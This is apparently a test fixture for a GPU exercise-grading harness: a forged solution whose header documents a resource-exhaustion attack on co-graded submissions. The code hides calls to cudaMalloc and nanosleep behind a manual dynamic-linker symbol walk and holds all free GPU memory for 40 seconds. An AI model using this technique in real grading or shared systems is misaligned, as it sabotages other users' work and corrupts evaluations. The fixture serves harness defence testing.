// forgery: GPU-only, and only where submissions are graded at once (--jobs 2 or more: their correctness checks share the GPU). In the GPU checks' first child, where CUDA is initialised, the function finds cudaMemGetInfo and cudaMalloc in the CUDA runtime library and nanosleep in the C library through the dynamic linker's list (no import), takes all the GPU's free memory and holds it for 40 s before doing the exercise's work and returning, so the GPU checks running beside it fail for want of memory: its neighbours' and its own. The history: before 9cd8130 the neighbours' plain failures counted and were stored in the result cache; then such a failure ran again alone, recognised from words in its output (on an H100 the neighbours' new CUDA contexts get cudaErrorDevicesUnavailable, recognised from 1b6559d); graded first with the cache on (alone), its own failures were stored and the solutions graded later reused them (354 of 370 on an H100 at bf925cb). Now the harness notes what it met (wbcore/gtest_verdict.py, .contention), no failure of a run with such a note is stored, and a submission's shared run that met it beside another submission's is made again whole with the GPU to itself: the neighbours score what they score alone, and so does this one, whose own checks fail again beside it (94 of 370 graded alone on an H100). The harm would show in grade_forgeries' comparison of each submission graded in the batch with it graded alone (--gpu --grade-arg=--jobs=2 --alone NAME,solutions, which grades both at once).
// exercise: config/optInDynamicShared
// base: solutions
// expect: below base
#include <elf.h>
#include <link.h>

#include <climits>
#include <cstddef>
#include <cstdint>
#include <cstring>
#include <ctime>

#include "config/config.cuh"

namespace {

bool holds(const char* text, const char* part) {
  const std::size_t n = std::strlen(part);
  for (; *text != '\0'; ++text) {
    if (std::memcmp(text, part, n) == 0) return true;
  }
  return false;
}

const ElfW(Ehdr)* programHeader() {
  auto page = reinterpret_cast<std::uintptr_t>(&programHeader) & ~std::uintptr_t{4095};
  for (int i = 0; i < 65536; ++i, page -= 4096) {
    if (std::memcmp(reinterpret_cast<const void*>(page), ELFMAG, SELFMAG) == 0) {
      return reinterpret_cast<const ElfW(Ehdr)*>(page);
    }
  }
  return nullptr;
}

// Function `name` exported by the loaded library whose path holds `library`.
void* exported(const char* library, const char* name) {
  const ElfW(Ehdr)* ehdr = programHeader();
  if (ehdr == nullptr) return nullptr;
  const auto* phdr =
      reinterpret_cast<const ElfW(Phdr)*>(reinterpret_cast<const char*>(ehdr) + ehdr->e_phoff);
  std::uintptr_t bias = 0;
  for (int i = 0; i < ehdr->e_phnum; ++i) {
    if (phdr[i].p_type == PT_LOAD && phdr[i].p_offset == 0) {
      bias = reinterpret_cast<std::uintptr_t>(ehdr) - phdr[i].p_vaddr;
    }
  }
  const ElfW(Dyn)* dynamic = nullptr;
  for (int i = 0; i < ehdr->e_phnum; ++i) {
    if (phdr[i].p_type == PT_DYNAMIC) dynamic = reinterpret_cast<const ElfW(Dyn)*>(bias + phdr[i].p_vaddr);
  }
  const r_debug* debug = nullptr;
  for (const ElfW(Dyn)* d = dynamic; d != nullptr && d->d_tag != DT_NULL; ++d) {
    if (d->d_tag == DT_DEBUG) debug = reinterpret_cast<const r_debug*>(d->d_un.d_ptr);
  }
  for (const link_map* m = debug ? debug->r_map : nullptr; m != nullptr; m = m->l_next) {
    if (m->l_name == nullptr || !holds(m->l_name, library)) continue;
    std::uintptr_t symtab = 0, strtab = 0;
    for (const ElfW(Dyn)* d = m->l_ld; d->d_tag != DT_NULL; ++d) {
      if (d->d_tag == DT_SYMTAB) symtab = d->d_un.d_ptr < m->l_addr ? d->d_un.d_ptr + m->l_addr : d->d_un.d_ptr;
      if (d->d_tag == DT_STRTAB) strtab = d->d_un.d_ptr < m->l_addr ? d->d_un.d_ptr + m->l_addr : d->d_un.d_ptr;
    }
    if (symtab == 0 || strtab <= symtab) continue;
    const auto* symbols = reinterpret_cast<const ElfW(Sym)*>(symtab);
    for (std::size_t i = 0; i < (strtab - symtab) / sizeof(ElfW(Sym)); ++i) {
      if (symbols[i].st_value != 0 && ELF64_ST_TYPE(symbols[i].st_info) == STT_FUNC &&
          std::strcmp(reinterpret_cast<const char*>(strtab + symbols[i].st_name), name) == 0) {
        return reinterpret_cast<void*>(m->l_addr + symbols[i].st_value);
      }
    }
  }
  return nullptr;
}

// Every free byte of the GPU, held for 40 s (the memory goes back when the
// child ends, after the call).
void holdTheGpu() {
  using MemGetInfoFn = int (*)(std::size_t*, std::size_t*);
  using MallocFn = int (*)(void**, std::size_t);
  using SleepFn = int (*)(const timespec*, timespec*);
  const auto memGetInfo = reinterpret_cast<MemGetInfoFn>(exported("libcudart.so", "cudaMemGetInfo"));
  const auto allocate = reinterpret_cast<MallocFn>(exported("libcudart.so", "cudaMalloc"));
  const auto sleepFor = reinterpret_cast<SleepFn>(exported("libc.so", "nanosleep"));
  if (!memGetInfo || !allocate || !sleepFor) return;
  std::size_t free = 0, total = 0;
  if (memGetInfo(&free, &total) != 0) return;
  for (std::size_t chunk = std::size_t{1} << 30; chunk >= (std::size_t{1} << 20);) {
    void* p = nullptr;
    if (allocate(&p, chunk) != 0) chunk /= 2;
  }
  const timespec wait{40, 0};
  sleepFor(&wait, nullptr);
}

}  // namespace

namespace wb::config {

cudaError_t optInDynamicShared(const void* kernel, std::size_t bytes) {
  if (bytes > static_cast<std::size_t>(INT_MAX)) return cudaErrorInvalidValue;
  holdTheGpu();
  return cudaFuncSetAttribute(kernel, cudaFuncAttributeMaxDynamicSharedMemorySize,
                              static_cast<int>(bytes));
}

}  // namespace wb::config
